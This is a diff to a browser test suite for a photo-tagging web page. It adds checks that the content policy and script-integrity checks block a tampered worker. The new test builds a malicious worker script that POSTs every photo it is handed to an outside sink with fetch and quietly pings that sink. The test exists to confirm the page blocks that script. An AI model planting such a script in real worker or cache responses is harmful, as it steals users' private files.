@@ -5,7 +5,7 @@ import { after, before, test } from "node:test";
 import { launch, until } from "./browser.mjs";
 import { open } from "./hushtag.mjs";
 import { folder } from "./photos.mjs";
-import { changed, serve } from "./site.mjs";
+import { changed, serve, sink } from "./site.mjs";
 
 let browser, site, files;
 
@@ -81,6 +81,8 @@ test("what the policy stops is listed, and the report names photos only when ask
   assert.match(report.policy, /default-src 'none'.*connect-src 'self'/);
   assert.match(report.stopped[0].address, /hushtag\.invalid/);
   assert.ok(report.limits.length > 0, "it says what it cannot prove");
+  assert.equal(report.tested.length, 4);
+  assert.ok(report.tested.every((line) => line.endsWith("the browser stopped it.")), report.tested.join("\n"));
   await page.$$eval("dialog[open] label.check input", ([input]) => input.click());
   assert.deepEqual((await saved()).photo_names, ["coffee.jpg"]);
   await hushtag.close();
@@ -128,6 +130,7 @@ for (const [what, pattern, change, said] of [
 for (const [what, pattern, change, said] of [
   ["the worker's first script", /worker-boot\.\w+\.js$/, line, /worker-boot.*is not the file this page was built with/],
   ["the worker's script", /worker\.\w+\.js$/, line, /worker\..*is not the file this page was built with/],
+  ["what tries the policy", /self-test\.\w+\.js$/, line, /self-test.*is not the file this page was built with/],
   ["the worker's wasm", /worker_bg\.\w+\.wasm$/, section, /worker_bg.*is not the file this page was built with/],
   ["the list of models", /manifest\.\w+\.json$/, line, /manifest.*is not the file this page was built with/],
   ["a model", /yunet\.\w+\.onnx/, bit, /YuNet could not be loaded: its SHA-256 is/],
@@ -146,3 +149,29 @@ for (const [what, pattern, change, said] of [
     }
   });
 }
+
+test("a cache that answers a worker with another script than the page runs nothing, and no photo leaves", async () => {
+  const outside = await sink();
+  // Posts every file it is handed, and goes on as if nothing were.
+  const evil = (body) => `addEventListener("message", ({ data }) => {
+    for (const part of [data].flat(9)) if (part instanceof Blob) fetch("${outside.address}/photo", { method: "POST", mode: "no-cors", body: part });
+  });\nfetch("${outside.address}/ran", { mode: "no-cors" });\n${body}`;
+  const isForWorker = (url, { "sec-fetch-dest": wanted }) => /\/worker[\w-]*\.\w+\.js$/.test(url) && wanted !== "empty";
+  // Nothing is kept, so that a second request is answered with the right bytes.
+  const without = ["content-security-policy", "connection-allowlist", "cache-control"];
+  const other = await changed(site, isForWorker, evil, { without });
+  const hushtag = await open(browser, other);
+  try {
+    await hushtag.drop([await files.copy("cat.jpg")]);
+    const [tile] = await hushtag.settled(1);
+    assert.equal(tile.state, "to-review", JSON.stringify(tile));
+    assert.deepEqual(outside.hits, []);
+    assert.deepEqual(other.hits, [], "the scripts are fetched by the page alone, which checks them");
+    const workers = hushtag.page.workers().map((worker) => worker.url());
+    assert.ok(workers.length > 0 && workers.every((url) => url.startsWith("blob:")), `${workers}`);
+  } finally {
+    await hushtag.close();
+    other.close();
+    outside.close();
+  }
+});
